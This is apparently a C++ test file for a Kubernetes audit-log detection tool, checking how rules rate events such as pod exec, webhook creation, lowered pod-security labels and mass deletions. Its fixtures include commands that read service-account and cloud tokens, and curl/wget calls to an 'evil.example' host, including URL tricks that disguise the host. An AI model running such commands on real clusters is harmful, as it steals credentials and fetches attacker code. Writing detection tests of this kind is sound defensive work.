// NP107 on probing, NP152 and NP155 to NP162: what is done in namespaces of any age.
#include "tests/support/events.h"

#include <catch2/catch.hpp>

using namespace nsposture;
using namespace nsposture::tests;
using store::AuditEvent;
using store::Severity;

namespace {

const std::string kPrometheus = "system:serviceaccount:monitoring:prometheus";
const std::string kDaemonSets = "system:serviceaccount:kube-system:daemon-set-controller";

rules::Findings judge(std::string_view rule, std::vector<AuditEvent> events) {
  return run_rule(*case_file(base_cluster(), std::move(events)), rule);
}

AuditEvent in(std::string ns, AuditEvent e) {
  e.namespace_ = std::move(ns);
  return e;
}

AuditEvent of(std::string group, AuditEvent e) {
  e.api_group = std::move(group);
  return e;
}

AuditEvent webhook(double seconds, std::string user, int code) {
  return of("admissionregistration.k8s.io",
            event(seconds, std::move(user), code == 201 ? "create" : "update",
                  "mutatingwebhookconfigurations", "inject", code));
}

AuditEvent entry(std::string way, const std::string& command, int code = 101) {
  auto e = in("shop", event(0, "eve", "get", "pods", "web", code));
  e.subresource = std::move(way);
  if (!command.empty()) e.object = R"({"command":")" + command + "\"}";
  return e;
}

AuditEvent proxied(std::string user, std::string resource, std::string path) {
  auto e = event(0, std::move(user), "get", std::move(resource), "one", 200);
  e.subresource = "proxy";
  e.path = std::move(path);
  return e;
}

AuditEvent all_secrets(double seconds, std::string user, std::string client) {
  auto e = event(seconds, std::move(user), "list", "secrets", "", 200);
  e.user_agent = std::move(client);
  return e;
}

AuditEvent pod(std::string user, std::string ns, const std::string& opens = "") {
  auto e = in(std::move(ns), event(0, std::move(user), "create", "pods", "shell", 201));
  if (!opens.empty()) e.object = R"({"kind":"Pod","opens":[")" + opens + "\"]}";
  return e;
}

AuditEvent service(const std::string& opens) {
  auto e = in("shop", event(0, "eve", "create", "services", "web", 201));
  if (!opens.empty()) e.object = R"({"kind":"Service","opens":[")" + opens + "\"]}";
  return e;
}

AuditEvent labels(double seconds, const std::string& level) {
  auto e = in("shop", event(seconds, "eve", "update", "namespaces", "shop", 200));
  e.object = R"({"kind":"Namespace","metadata":{"name":"shop","labels":{)"
             R"("pod-security.kubernetes.io/enforce":")" +
             level + R"("}}})";
  return e;
}

std::vector<AuditEvent> removals(const std::string& user, int count) {
  std::vector<AuditEvent> events;
  for (int i = 0; i < count; ++i) {
    events.push_back(
        in("shop", event(i, user, "delete", "serviceaccounts", "a" + std::to_string(i), 200)));
  }
  return events;
}

std::vector<AuditEvent> refusals(const std::string& user, std::vector<std::string> resources) {
  std::vector<AuditEvent> events;
  for (std::size_t i = 0; i < resources.size(); ++i) {
    events.push_back(event(static_cast<double>(i), user, "create", resources[i], "", 403));
  }
  return events;
}

}  // namespace

TEST_CASE("who is denied one thing after another probes, who repeats one thing does not",
          "[rules][NP107]") {
  const std::string account = "system:serviceaccount:shop:web";
  const auto findings =
      judge("NP107", refusals(account, {"secrets", "roles", "serviceaccounts", "rolebindings"}));
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].severity == Severity::Medium);
  CHECK(judge("NP107", refusals(account, {"roles", "roles", "roles", "roles", "roles"})).empty());
  // A person applies a file where they may not.
  const auto person =
      judge("NP107", refusals("eve", {"secrets", "roles", "serviceaccounts", "rolebindings"}));
  REQUIRE(person.size() == 1);
  CHECK(person[0].severity == Severity::Low);
}

TEST_CASE("a webhook that a person makes is told", "[rules][NP152]") {
  const auto findings = judge("NP152", {webhook(0, "eve", 201)});
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].severity == Severity::Medium);
  CHECK(judge("NP152", {webhook(0, "eve", 403)}).empty());
  CHECK(judge("NP152", {webhook(0, "eks:addon-manager", 200)}).empty());
}

TEST_CASE("many webhooks of one user are named up to three, each once", "[rules][NP152]") {
  const auto titled = [](std::vector<std::string> names) {
    std::vector<AuditEvent> events;
    for (std::size_t i = 0; i < names.size(); ++i) {
      events.push_back(webhook(static_cast<double>(i), "eve", 201));
      events.back().name = names[i];
    }
    const auto findings = judge("NP152", std::move(events));
    REQUIRE(findings.size() == 1);
    CHECK(findings[0].evidence.size() == names.size());
    return findings[0].title;
  };
  CHECK_THAT(titled({"a", "b", "a", "c"}), Catch::EndsWith("`a`, `b`, `c`"));
  CHECK_THAT(titled({"a", "b", "c", "d", "e"}), Catch::EndsWith("`a`, `b`, `c` and 2 more"));
}

TEST_CASE("a webhook that comes with a program, or renews its certificate, weighs less",
          "[rules][NP152]") {
  CHECK(judge("NP152", {webhook(0, "system:serviceaccount:cert-manager:cainjector", 200)})[0]
            .severity == Severity::Low);
  const auto account = in("tools", event(0, "jane", "create", "serviceaccounts", "operator", 201));
  const auto grant = rbac_write(2, "jane", "create", "clusterrolebindings", "operator", "");
  CHECK(judge("NP152", {account, grant, webhook(4, "jane", 201)})[0].severity == Severity::Low);
  CHECK(judge("NP152", {account, webhook(4, "jane", 201)})[0].severity == Severity::Medium);
  CHECK(judge("NP152", {account, grant, webhook(900, "jane", 201)})[0].severity ==
        Severity::Medium);
}

TEST_CASE("a pod that is entered is told by the way and the command", "[rules][NP155]") {
  for (const auto* way : {"exec", "attach", "portforward", "ephemeralcontainers"}) {
    const auto findings = judge("NP155", {entry(way, "")});
    REQUIRE(findings.size() == 1);
    CHECK(findings[0].severity == Severity::Low);
    CHECK(judge("NP155", {entry(way, "", 403)}).empty());
  }
  CHECK(
      judge("NP155", {entry("exec", "cat /var/run/secrets/kubernetes.io/serviceaccount/token")})[0]
          .severity == Severity::High);
  CHECK(judge("NP155", {entry("exec", "ls -l")})[0].severity == Severity::Low);
  CHECK(judge("NP155", {entry("log", "")}).empty());
}

TEST_CASE("a command on a node is told, what monitoring asks is low", "[rules][NP156]") {
  auto run = proxied("eve", "nodes", "/api/v1/nodes/one/proxy/run/shop/web/web");
  run.verb = "create";
  CHECK(judge("NP156", {run})[0].severity == Severity::High);
  CHECK(judge("NP156", {proxied("eve", "nodes", "/api/v1/nodes/one/proxy/pods")})[0].severity ==
        Severity::Medium);
  CHECK(judge("NP156", {proxied("eve", "nodes", "/api/v1/nodes/one/proxy/configz")})[0].severity ==
        Severity::Low);
  CHECK(
      judge("NP156", {proxied(kPrometheus, "services", "/api/v1/x/services/one/proxy/metrics")})[0]
          .severity == Severity::Low);
  auto denied = run;
  denied.code = 403;
  CHECK(judge("NP156", {denied}).empty());
}

TEST_CASE("an address that only looks like one of the cluster is elsewhere", "[rules][NP155]") {
  const auto severity = [](const std::string& command) {
    return judge("NP155", {entry("exec", command)})[0].severity;
  };
  for (const auto* near :
       {"curl http://localhost:8080/healthz", "curl -s http://10.0.0.7/x", "wget backend:80/a",
        "curl http://api.shop.svc:8080/a", "curl http://[::1]/x", "curl http://u:p@127.0.0.1/x"}) {
    INFO(near);
    CHECK(severity(near) == Severity::Low);
  }
  for (const auto* far :
       {"curl http://localhost.evil.example/x", "curl http://10.evil.example/x",
        "curl http://127.0.0.1@evil.example/x", "curl http://backend:80@evil.example/x",
        "curl https://evil.example/?a=.svc", "wget evil.example/x.sh"}) {
    INFO(far);
    CHECK(severity(far) == Severity::High);
  }
  const auto cloud = judge(
      "NP155", {entry("exec", "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token")});
  CHECK(cloud[0].severity == Severity::High);
  CHECK(cloud[0].title.find("reads the account's cloud token") != std::string::npos);
}

TEST_CASE("a person who lists all Secrets is told, a program in a pod is not", "[rules][NP157]") {
  const auto alone = judge("NP157", {all_secrets(0, "eve", "kubectl/v1")});
  REQUIRE(alone.size() == 1);
  CHECK(alone[0].severity == Severity::Low);
  const auto write = in("shop", event(9, "eve", "create", "serviceaccounts", "backup", 201));
  CHECK(judge("NP157", {all_secrets(0, "eve", "kubectl/v1"), write})[0].severity ==
        Severity::Medium);
  auto program = all_secrets(0, "system:serviceaccount:velero:velero", "velero/v1");
  CHECK(judge("NP157", {program}).empty());
  // A pod's token in the hands of a person, or a script in a pod.
  program.user_agent = "curl/8";
  program.user.pod_name = "velero-0";
  REQUIRE(judge("NP157", {program}).size() == 1);
  CHECK(judge("NP157", {program})[0].severity == Severity::Low);
}

TEST_CASE("a guard that is lowered is told, one that is raised is not", "[rules][NP158]") {
  const auto findings = judge("NP158", {labels(0, "restricted"), labels(60, "privileged")});
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].severity == Severity::High);
  CHECK(judge("NP158", {labels(0, "baseline"), labels(60, "restricted")}).empty());
  CHECK(judge("NP158", {labels(0, "privileged"), labels(60, "privileged")}).empty());
}

TEST_CASE("a NetworkPolicy that goes with its namespace is no guard taken away", "[rules][NP158]") {
  const auto removal = of("networking.k8s.io",
                          in("shop", event(0, "eve", "delete", "networkpolicies", "deny", 200)));
  CHECK(judge("NP158", {removal}).size() == 1);
  const auto end = in("shop", event(5, "eve", "delete", "namespaces", "shop", 200));
  CHECK(judge("NP158", {removal, end}).empty());
  auto by_controller = removal;
  by_controller.user.username = "system:serviceaccount:kube-system:namespace-controller";
  CHECK(judge("NP158", {by_controller}).empty());
}

TEST_CASE("a person's pod in kube-system is told, a controller's is not", "[rules][NP159]") {
  CHECK(judge("NP159", {pod("eve", "kube-system")})[0].severity == Severity::Medium);
  CHECK(judge("NP159", {pod(kDaemonSets, "kube-system")}).empty());
  CHECK(judge("NP159", {pod("system:node:node-1", "kube-system")}).empty());
  CHECK(judge("NP159", {pod("eve", "shop")}).empty());
  const auto account = [](const std::string& name) {
    return in("kube-system", event(0, "kubernetes-admin", "create", "serviceaccounts", name, 201));
  };
  CHECK(judge("NP159", {account("helper")})[0].severity == Severity::Low);
  CHECK(judge("NP159", {account("coredns"), account("kube-proxy")}).empty());
}

TEST_CASE("a pod that can leave its container is told, a controller's weighs less",
          "[rules][NP160]") {
  CHECK(judge("NP160", {pod("eve", "shop", "privileged")})[0].severity == Severity::Medium);
  CHECK(judge("NP160", {pod(kDaemonSets, "shop", "privileged")})[0].severity == Severity::Low);
  CHECK(judge("NP160", {pod(kDaemonSets, "kube-system", "privileged")}).empty());
  CHECK(judge("NP160", {pod("eve", "shop")}).empty());
  CHECK(
      judge("NP160", {pod("system:serviceaccount:ci:tekton", "shop", "privileged")})[0].severity ==
      Severity::Low);
  CHECK(judge("NP160", {pod("eve", "kube-system", "account replicaset-controller")})[0].severity ==
        Severity::High);
}

TEST_CASE("what opens a namespace is told, what does not is not", "[rules][NP161]") {
  CHECK(judge("NP161", {service("NodePort")}).size() == 1);
  CHECK(judge("NP161", {service("")}).empty());
  const auto ingress =
      of("networking.k8s.io", in("shop", event(0, "eve", "create", "ingresses", "web", 201)));
  CHECK(judge("NP161", {ingress})[0].severity == Severity::Low);
}

TEST_CASE("many removals at once are told, a few or a controller's are not", "[rules][NP162]") {
  CHECK(judge("NP162", removals("eve", 24))[0].severity == Severity::Medium);
  CHECK(judge("NP162", removals("system:serviceaccount:ci:deployer", 24))[0].severity ==
        Severity::Low);
  CHECK(judge("NP162", removals("eve", 12)).empty());
  CHECK(judge("NP162", removals("system:serviceaccount:kube-system:namespace-controller", 24))
            .empty());
}
